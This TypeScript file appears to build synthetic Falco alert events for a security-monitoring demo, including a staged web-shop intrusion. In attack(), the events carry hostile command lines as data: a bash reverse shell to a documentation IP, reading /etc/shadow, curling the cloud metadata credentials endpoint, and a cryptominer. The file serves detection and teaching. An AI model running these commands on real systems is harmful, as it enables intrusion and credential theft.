/** What happens in the demo's hour: the events as Falco and its plugins send them, in the order of the story. */
/** `seenAt`: the minute that Falco saw it, when it was sent later than that. */
export type Scene = { readonly minute: number; readonly seenAt?: number; readonly event: Readonly<Record<string, unknown>> | string }

type Fields = Readonly<Record<string, string | number | null>>
export type Workload = {
  readonly namespace: string
  readonly pod: string
  readonly container: string
  readonly image: string
  readonly tag: string
  readonly node: string
}

const frontend: Workload = {
  namespace: 'shop',
  pod: 'web-frontend-6d8f9b7c54-kx2vq',
  container: 'php',
  image: 'registry.acme.example/shop/web-frontend',
  tag: '3.14.1',
  node: 'node-2.eu1.acme.example',
}
const checkout: Workload = {
  namespace: 'payments',
  pod: 'checkout-7c5d9f8b6d-m4tzr',
  container: 'app',
  image: 'registry.acme.example/payments/checkout',
  tag: '8.2.0',
  node: 'node-1.eu1.acme.example',
}

/** One rule that is loud and dull: Argo CD talks to the API server all day, on three nodes. */
export function noise(): readonly Scene[] {
  const argo = Array.from({ length: 170 }, (_, index) => ({ minute: 0.2 + index * 0.35, event: argoTalks(index) }))
  const backup = Array.from({ length: 6 }, (_, index) => ({ minute: 5 + index * 10, event: backupReads(index) }))
  return [...argo, ...backup]
}

/** People at work: a shell in a payments pod, a config map, a planned self-test. */
export function people(): readonly Scene[] {
  return [
    { minute: 12, event: shellBy(checkout, 'bash', 'bash') },
    { minute: 12.5, event: shellBy(checkout, 'sh', 'sh -c psql $DATABASE_URL') },
    {
      minute: 21,
      event: audit('K8s ConfigMap Created', 'Informational', 'ana@acme.example', 'create', 'configmaps', 'shop', 'feature-flags'),
    },
    { minute: 33, event: selfTest() },
    { minute: 41, event: bucketPolicy() },
  ]
}

/** What Falco says of itself, one event that was sent twice, and one body that is no event. */
export function sensors(): readonly Scene[] {
  return [
    { minute: 15, event: drops('node-3.eu1.acme.example') },
    { minute: 30, event: '12:00:01.123456789: Notice A shell was spawned in a container with an attached terminal' },
    { minute: 44, event: shellBy(checkout, 'bash', 'bash -l') },
    { minute: 44.1, seenAt: 44, event: shellBy(checkout, 'bash', 'bash -l') },
  ]
}

/** Somebody gets in through the web shop: shell, reverse shell, a look around, credentials, a miner. */
export function attack(): readonly Scene[] {
  const inPod = (minute: number, rule: string, priority: string, tags: readonly string[], fields: Fields) => ({
    minute,
    event: fromPod(frontend, rule, priority, tags, { 'user.name': 'www-data', 'user.uid': 33, 'user.loginuid': -1, ...fields }),
  })
  const shell = {
    'evt.type': 'execve',
    'proc.name': 'bash',
    'proc.exepath': '/bin/bash',
    'proc.pname': 'php-fpm',
    'evt.arg.flags': 'EXE_LOWER_LAYER',
  }
  return [
    inPod(51, 'Web Server Spawned Shell', 'Critical', ['mitre_persistence', 'T1505.003'], {
      ...shell,
      'proc.cmdline': 'bash -c id;uname -a',
    }),
    inPod(52, 'Reverse Shell from Web Server', 'Critical', ['mitre_execution', 'T1059'], {
      ...shell,
      'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444 0>&1',
    }),
    inPod(53, 'Basic Interactive Reconnaissance', 'Notice', ['mitre_reconnaissance', 'TA0043'], {
      'evt.type': 'execve',
      'proc.name': 'whoami',
      'proc.pname': 'bash',
      'proc.cmdline': 'whoami',
    }),
    inPod(54, 'Read sensitive file untrusted', 'Warning', ['mitre_credential_access', 'T1555'], {
      'evt.type': 'openat',
      'fd.name': '/etc/shadow',
      'proc.name': 'cat',
      'proc.pname': 'bash',
      'proc.cmdline': 'cat /etc/shadow',
    }),
    inPod(55, 'Contact EC2 Instance Metadata Service From Container', 'Notice', ['mitre_credential_access', 'T1552.005'], {
      'evt.type': 'connect',
      'fd.name': '10.42.7.19:51034->169.254.169.254:80',
      'fd.rport': 80,
      'proc.name': 'curl',
      'proc.pname': 'bash',
      'proc.cmdline': 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    }),
    {
      minute: 56,
      event: audit(
        'K8s Secret Get Successfully',
        'Error',
        'system:serviceaccount:shop:web-frontend',
        'get',
        'secrets',
        'shop',
        'stripe-api-key',
      ),
    },
    inPod(57, 'Drop and execute new binary in container', 'Critical', ['mitre_persistence', 'TA0003'], {
      'evt.type': 'execve',
      'proc.name': 'kworkerd',
      'proc.exepath': '/tmp/.x/kworkerd',
      'proc.pname': 'bash',
      'proc.cmdline': 'kworkerd -o pool.example:3333 --password hunter2',
      'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER',
    }),
    ...Array.from({ length: 12 }, (_, index) =>
      inPod(57.2 + index * 0.2, 'Known Cryptominer Process Executed', 'Critical', ['mitre_impact', 'T1496'], {
        'evt.type': 'execve',
        'proc.name': 'kworkerd',
        'proc.exepath': '/tmp/.x/kworkerd',
        'proc.pname': 'bash',
        'proc.cmdline': `kworkerd -o pool.example:3333 -t ${index + 1}`,
      }),
    ),
  ]
}

function argoTalks(index: number): Scene['event'] {
  const pod =
    ['argocd-repo-server-58c7b9d6f4-bq7xt', 'argocd-repo-server-58c7b9d6f4-z9kpl', 'argocd-repo-server-58c7b9d6f4-t5wnc'][index % 3] ?? ''
  const argo = {
    namespace: 'argocd',
    pod,
    container: 'repo-server',
    image: 'quay.io/argoproj/argocd',
    tag: 'v2.12.3',
    node: `node-${(index % 3) + 1}.eu1.acme.example`,
  }
  return fromPod(argo, 'Contact K8S API Server From Container', 'Notice', ['k8s', 'mitre_discovery', 'network', 'T1565'], {
    'evt.type': 'connect',
    'fd.name': `10.42.3.${index % 250}:${40_000 + index}->10.96.0.1:443`,
    'fd.rport': 443,
    'fd.l4proto': 'tcp',
    'proc.name': 'argocd-repo-ser',
    'proc.pname': 'tini',
    'proc.cmdline': 'argocd-repo-server --port 8081',
    'user.name': 'argocd',
    'user.uid': 999,
  })
}

function backupReads(index: number): Scene['event'] {
  return {
    hostname: 'bastion-1.eu1.acme.example',
    rule: 'Read sensitive file untrusted',
    priority: 'Warning',
    source: 'syscall',
    tags: ['filesystem', 'host', 'mitre_credential_access', 'T1555'],
    output_fields: {
      'container.id': 'host',
      'container.name': 'host',
      'evt.type': 'openat',
      'fd.name': '/etc/shadow',
      'proc.name': 'restic',
      'proc.pname': 'systemd',
      'proc.cmdline': `restic backup /etc --tag run-${index}`,
      'user.name': 'root',
      'user.uid': 0,
    },
  }
}

function shellBy(workload: Workload, name: string, cmdline: string): Readonly<Record<string, unknown>> {
  return fromPod(workload, 'Terminal shell in container', 'Notice', ['container', 'mitre_execution', 'shell', 'T1059'], {
    'evt.type': 'execve',
    'proc.name': name,
    'proc.pname': 'runc',
    'proc.cmdline': cmdline,
    'proc.tty': 34_816,
    'user.name': 'root',
    'user.uid': 0,
    'user.loginuid': -1,
  })
}

export function fromPod(
  workload: Workload,
  rule: string,
  priority: string,
  tags: readonly string[],
  fields: Fields,
): Readonly<Record<string, unknown>> {
  const where = {
    'container.id': '3ad7b26ded6d',
    'container.name': workload.container,
    'container.image.repository': workload.image,
    'container.image.tag': workload.tag,
    'k8s.ns.name': workload.namespace,
    'k8s.pod.name': workload.pod,
  }
  return { hostname: workload.node, rule, priority, source: 'syscall', tags, output_fields: { ...fields, ...where } }
}

/** Through the API server's audit log, as the k8saudit plugin reports it. */
function audit(
  rule: string,
  priority: string,
  user: string,
  verb: string,
  resource: string,
  namespace: string,
  name: string,
): Scene['event'] {
  const fields = {
    'ka.user.name': user,
    'ka.verb': verb,
    'ka.target.resource': resource,
    'ka.target.namespace': namespace,
    'ka.target.name': name,
  }
  const answer = { 'ka.response.code': verb === 'create' ? '201' : '200', 'ka.auth.decision': 'allow' }
  return {
    hostname: 'control-1.eu1.acme.example',
    rule,
    priority,
    source: 'k8s_audit',
    tags: ['k8s'],
    output_fields: { ...fields, ...answer },
  }
}

function bucketPolicy(): Scene['event'] {
  const fields = { 'ct.user': 'deploy-bot', 'ct.region': 'eu-west-1', 'ct.srcip': '198.51.100.7', 's3.bucket': 'acme-invoices' }
  return {
    hostname: 'control-1.eu1.acme.example',
    rule: 'Put Bucket Policy',
    priority: 'Warning',
    source: 'aws_cloudtrail',
    tags: ['aws', 'cloud'],
    output_fields: fields,
  }
}

/** Falco's own test tool, run with Docker on a lab host; sent by falcosidekick. */
function selfTest(): Scene['event'] {
  return {
    uuid: '0f4d7b1e-9f5f-4a41-8a5e-2f4c1a5de001',
    hostname: 'lab-1.acme.example',
    rule: 'Execution from /dev/shm',
    priority: 'Warning',
    source: 'syscall',
    tags: ['T1059.004', 'container', 'host', 'maturity_stable', 'mitre_execution'],
    output_fields: {
      'container.id': 'c61b4b13ae44',
      'container.name': 'jolly_wing',
      'evt.res': 'SUCCESS',
      'evt.type': 'execve',
      'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER',
      'proc.cmdline': 'sh -c /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-Qx81Zp.sh',
      'proc.exepath': '/bin/busybox',
      'proc.name': 'sh',
      'proc.pname': 'event-generator',
      'proc.pcmdline': 'event-generator run syscall',
      'proc.tty': 34_816,
      'user.name': 'root',
      'user.uid': 0,
      'user.loginuid': -1,
    },
  }
}

function drops(hostname: string): Scene['event'] {
  return {
    hostname,
    rule: 'Falco internal: syscall event drop',
    priority: 'Debug',
    source: 'internal',
    output: 'Falco internal: syscall event drop. 1204 system calls dropped in last second.',
    output_fields: { n_drops: '1204', n_evts: '9310', n_drops_buffer_total: '1204', ebpf_enabled: '1' },
  }
}
